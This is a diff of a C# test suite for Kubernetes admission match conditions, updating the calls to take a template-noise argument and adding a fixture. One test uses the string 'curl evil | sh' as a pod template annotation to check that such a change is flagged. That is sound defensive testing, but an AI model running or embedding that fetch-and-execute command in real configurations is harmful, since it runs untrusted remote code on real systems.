@@ -19,7 +19,7 @@ public class MatchConditionTests
 {
     private static readonly string s_reviews = Path.Combine(AppContext.BaseDirectory, "reviews");
 
-    private static readonly JsonObject[] s_ofWorkloads = [MatchConditions.NotByItsController(TrustedControllers.BuiltIn), MatchConditions.MoreThanARestart];
+    private static readonly JsonObject[] s_ofWorkloads = [MatchConditions.NotByItsController(TrustedControllers.BuiltIn), MatchConditions.MoreThanARestart(TemplateNoise.Default)];
 
     private static readonly TrustedControllers s_withKeda = new([KeyValuePair.Create<string, string[]>("system:serviceaccount:keda:keda-operator", ["Scale"])]);
 
@@ -36,6 +36,7 @@ public class MatchConditionTests
         "kubectl-rollout-restart-create-pod", "kubectl-rollout-restart-create-replicaset", "kubectl-rollout-restart-update-deployment",
         "kubectl-rollout-restart-update-replicaset", "kubectl-rollout-undo-update-replicaset", "kubectl-scale-create-pod", "kubectl-scale-update-replicaset",
         "kubectl-set-image-create-pod", "kubectl-set-image-create-replicaset", "kubectl-set-image-update-replicaset", "other-kinds-create-pod",
+        "reloader-by-annotation-update-deployment",
     ];
 
     [Test]
@@ -72,7 +73,7 @@ public class MatchConditionTests
         var review = Review("kubectl-set-image-update-deployment");
         review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Sandbox.Parse(patch));
 
-        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart])).Single(), Is.EqualTo(isAsked), what);
+        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.EqualTo(isAsked), what);
     }
 
     [TestCase("""{"containers": [{"name": "web", "image": "web:1", "env": [{"name": "RUN", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['kubectl.kubernetes.io/restartedAt']"}}}]}]}""")]
@@ -87,7 +88,7 @@ public class MatchConditionTests
         review["oldObject"] = old;
         review["object"] = Patched(old.DeepClone().AsObject(), Sandbox.Parse("""{"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "curl evil | sh"}}}}}"""));
 
-        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart])).Single(), Is.True);
+        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.True);
     }
 
     private const string Collector = "system:serviceaccount:kube-system:generic-garbage-collector";
@@ -109,7 +110,7 @@ public class MatchConditionTests
         review["oldObject"]!["metadata"]!["finalizers"] = new JsonArray("example.com/old");
         review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Sandbox.Parse(patch));
 
-        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart])).Single(), Is.EqualTo(isAsked), what);
+        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.EqualTo(isAsked), what);
         Assert.That((await AskedAsync([review], [MatchConditions.OtherMetadata])).Single(), Is.EqualTo(isAsked && !patch.Contains("spec", StringComparison.Ordinal)), "through a status the spec stays as it is");
     }
 
@@ -135,7 +136,7 @@ public class MatchConditionTests
             ["oldObject"] = Sized(before),
         };
 
-        Assert.That((await AskedAsync([review], [MatchConditions.FewerPods])).Single(), Is.EqualTo(isAsked));
+        Assert.That((await AskedAsync([review], [MatchConditions.FewerPods(TemplateNoise.Default)])).Single(), Is.EqualTo(isAsked));
     }
 
     [Test]
@@ -144,8 +145,8 @@ public class MatchConditionTests
         var review = Review("kubectl-set-image-update-replicaset");
         review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Sandbox.Parse("""{"metadata": {"labels": {"a": "b"}}, "spec": {"replicas": 0}}"""));
 
-        Assert.That((await AskedAsync([review], [MatchConditions.FewerPods])).Single(), Is.False);
-        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart])).Single(), Is.True);
+        Assert.That((await AskedAsync([review], [MatchConditions.FewerPods(TemplateNoise.Default)])).Single(), Is.False);
+        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.True);
     }
 
     [TestCase("dana", true)]
